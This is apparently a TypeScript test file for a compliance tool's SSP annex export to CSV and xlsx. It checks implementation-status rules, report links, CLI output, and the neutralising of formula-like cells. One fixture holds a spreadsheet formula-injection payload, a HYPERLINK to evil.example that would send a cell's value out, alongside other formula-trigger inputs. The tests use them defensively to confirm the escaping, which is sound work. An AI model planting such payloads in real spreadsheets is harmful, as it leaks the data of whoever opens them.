import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { Workbook } from '@cj-tech-master/excelts';
import { builtinBaseline, builtinControls, resolveBaseline } from '../../src/controls/baselines.ts';
import { loadCatalogFile } from '../../src/controls/load.ts';
import { buildMatrix } from '../../src/core/compliance.ts';
import type { Assessment } from '../../src/core/model.ts';
import { catalogApplicability } from '../../src/pack/annex.ts';
import {
  ANNEX_COLUMNS,
  annexCsvPieces,
  annexRows,
  implementationStatus,
  reportLink,
} from '../../src/report/ssp-annex.ts';
import { annexXlsx } from '../../src/report/ssp-annex-xlsx.ts';
import { runCli } from '../helpers/cli.ts';
import { makeAssessment } from './fixture.ts';

const repo = fileURLToPath(new URL('../..', import.meta.url));
const ismCatalog = join(repo, '..', 'shared', 'data', 'ism-oscal', 'ISM_catalog.json');

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** The fixture assessed against a small hand-made baseline, one control with a hostile topic. */
function tiny(): Assessment {
  const a = makeAssessment();
  a.compliance = [
    buildMatrix(a, {
      name: 'tiny',
      title: 'Tiny baseline',
      controls: [
        { id: 'ism-1139', title: HOSTILE, statement: '+SUM(1,2)' },
        { id: 'ism-1416', title: 'Network', statement: '-2+3' },
        { id: 'ism-0484', title: '@cmd', statement: '\tTabbed' },
        { id: 'ism-9999', title: 'No check', statement: 'Unchecked' },
        { id: 'ism-0001', title: 'Principle', statement: 'Govern', manual: true },
      ],
    }),
  ];
  return a;
}

async function readBack(bytes: Uint8Array): Promise<Workbook> {
  const wb = new Workbook();
  await wb.xlsx.load(bytes);
  return wb;
}

function cellText(value: unknown): string {
  if (value && typeof value === 'object' && 'text' in value) return String((value as { text: unknown }).text);
  return String(value ?? '');
}

describe('SSP annex implementation status', () => {
  const c = (pass: number, fail: number, unknown: number, waived: number) => ({
    pass,
    fail,
    unknown,
    waived,
  });
  it('follows the documented rule', () => {
    assert.equal(implementationStatus(c(2, 0, 0, 0), false), 'implemented');
    assert.equal(implementationStatus(c(2, 1, 0, 0), false), 'partially');
    assert.equal(implementationStatus(c(0, 1, 0, 0), false), 'not implemented');
    assert.equal(implementationStatus(c(0, 0, 0, 1), false), 'not implemented');
    assert.equal(implementationStatus(c(0, 1, 1, 0), false), 'partially');
    assert.equal(implementationStatus(c(3, 0, 1, 0), false), 'partially');
    assert.equal(implementationStatus(c(0, 0, 2, 0), false), 'not assessed');
    assert.equal(implementationStatus(c(0, 0, 0, 0), false), 'not assessed');
    assert.equal(implementationStatus(c(0, 0, 0, 0), true), 'manual');
  });
});

describe('SSP annex rows', () => {
  it('one row per control with evidence, waiver, owner and a link into the HTML report', () => {
    const rows = annexRows(tiny(), { owner: 'Platform team' });
    assert.deepEqual(
      rows.map((r) => [r.controlId, r.status]),
      [
        ['ism-1139', 'partially'],
        ['ism-1416', 'partially'],
        ['ism-0484', 'partially'],
        ['ism-9999', 'not assessed'],
        ['ism-0001', 'manual'],
      ],
    );
    const storage = rows[0];
    assert.equal(storage.checks, 'AZ-TEST-001');
    assert.deepEqual([storage.pass, storage.fail, storage.unknown, storage.waived], [1, 1, 1, 1]);
    assert.equal(storage.waiver, 'W-1 (until 2026-12-31)');
    assert.equal(storage.owner, 'Platform team');
    assert.equal(storage.link, 'findings-report.html#/findings?control=ism-1139');
    assert.equal(rows[3].link, '');
    assert.equal(reportLink('r.html', 'a b&c'), 'r.html#/findings?control=a+b%26c');
  });

  it('the CSV has the same rows, formula-like cells neutralised', () => {
    const csv = [...annexCsvPieces(annexRows(tiny()))].join('');
    const lines = csv.trimEnd().split('\r\n');
    assert.equal(lines.length, 1 + 5);
    assert.ok(lines[0].startsWith('Baseline,Control ID,Topic,Statement,Applicability,Implementation status'));
    assert.ok(lines[1].includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`), lines[1]);
    assert.ok(lines[1].includes(",'+SUM(1,2)") || lines[1].includes(`"'+SUM(1,2)"`), lines[1]);
    assert.ok(lines[2].includes(",'-2+3,"), lines[2]);
    assert.ok(lines[3].includes(",'@cmd,"), lines[3]);
  });
});

describe('SSP annex xlsx', () => {
  it('reads back with the same library: one row per control, headers, escaped cells, hyperlink', async () => {
    const rows = annexRows(tiny(), { owner: '+owner' });
    const wb = await readBack(await annexXlsx(rows));
    const sheet = wb.getWorksheet('tiny');
    assert.ok(sheet, 'a sheet named after the baseline');
    assert.equal(sheet.actualRowCount, 1 + 5);
    const header = ANNEX_COLUMNS.map((_, i) => cellText(sheet.getRow(1).getCell(i + 1).value));
    assert.deepEqual(
      header,
      ANNEX_COLUMNS.map((c) => c.header),
    );
    const col = (key: string) => ANNEX_COLUMNS.findIndex((c) => c.key === key) + 1;
    const first = sheet.getRow(2);
    assert.equal(first.getCell(col('controlId')).value, 'ism-1139');
    assert.equal(first.getCell(col('topic')).value, `'${HOSTILE}`);
    assert.equal(first.getCell(col('statement')).value, "'+SUM(1,2)");
    assert.equal(first.getCell(col('owner')).value, "'+owner");
    assert.equal(first.getCell(col('fail')).value, 1);
    assert.equal(first.getCell(col('status')).value, 'partially');
    const link = first.getCell(col('link')).value as { text: string; hyperlink: string };
    assert.equal(link.hyperlink, 'findings-report.html#/findings?control=ism-1139');
    assert.equal(sheet.getRow(4).getCell(col('topic')).value, "'@cmd");
    // Statements are flattened to one line, so a leading tab is gone before escaping.
    assert.equal(sheet.getRow(4).getCell(col('statement')).value, 'Tabbed');
    // No cell anywhere holds a formula.
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        assert.equal(typeof cell.formula, 'undefined', `cell ${cell.address} is a formula`);
      });
    });
  });

  const present = existsSync(ismCatalog);
  if (!present) console.log(`# skipping the ISM PROTECTED annex: ${ismCatalog} is absent`);
  it('ism-protected: one row per baseline control, with the catalog applicability', {
    skip: !present && 'ISM catalog absent',
  }, async () => {
    const { catalog } = loadCatalogFile(ismCatalog);
    const a = makeAssessment();
    const baseline = resolveBaseline('ism-protected', { catalog, checks: a.checks });
    a.compliance = [buildMatrix(a, baseline.input)];
    const expected = builtinControls(
      builtinBaseline('ism-protected') as NonNullable<ReturnType<typeof builtinBaseline>>,
      catalog,
    ).length;
    const rows = annexRows(a, { applicability: catalogApplicability(catalog) });
    assert.equal(rows.length, expected);
    const wb = await readBack(await annexXlsx(rows));
    const sheet = wb.getWorksheet('ism-protected');
    assert.ok(sheet);
    assert.equal(sheet.actualRowCount, expected + 1);
    const ids = new Set<string>();
    sheet.eachRow((row, n) => {
      if (n > 1) ids.add(String(row.getCell(2).value));
    });
    assert.equal(ids.size, expected);
    const row1139 = rows.find((r) => r.controlId === 'ism-1139');
    assert.ok(row1139?.applicability.includes('P'), row1139?.applicability);
    assert.ok(row1139 && row1139.topic.length > 0 && row1139.statement.length > 0);
  });
});

describe('assay report --ssp-annex', () => {
  it('writes the annex of an assessment file as xlsx and as CSV, with the owner given', async () => {
    const work = mkdtempSync(join(tmpdir(), 'assay-annex-'));
    try {
      const from = join(work, 'assessment.json');
      writeFileSync(from, JSON.stringify(tiny()));
      const xlsx = join(work, 'annex.xlsx');
      let run = await runCli(['report', '--from', from, '--ssp-annex', xlsx, '--owner', 'Ops'], {
        cwd: work,
      });
      assert.equal(run.code, 0, run.err);
      const wb = await readBack(readFileSync(xlsx));
      assert.equal(wb.getWorksheet('tiny')?.actualRowCount, 6);
      const csv = join(work, 'annex.csv');
      run = await runCli(['report', '--from', from, '--ssp-annex', csv, '--html', join(work, 'r.html')], {
        cwd: work,
      });
      assert.equal(run.code, 0, run.err);
      const lines = readFileSync(csv, 'utf8').trimEnd().split('\r\n');
      assert.equal(lines.length, 6);
      assert.ok(lines[1].includes('r.html#/findings?control=ism-1139'), lines[1]);
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  });
});
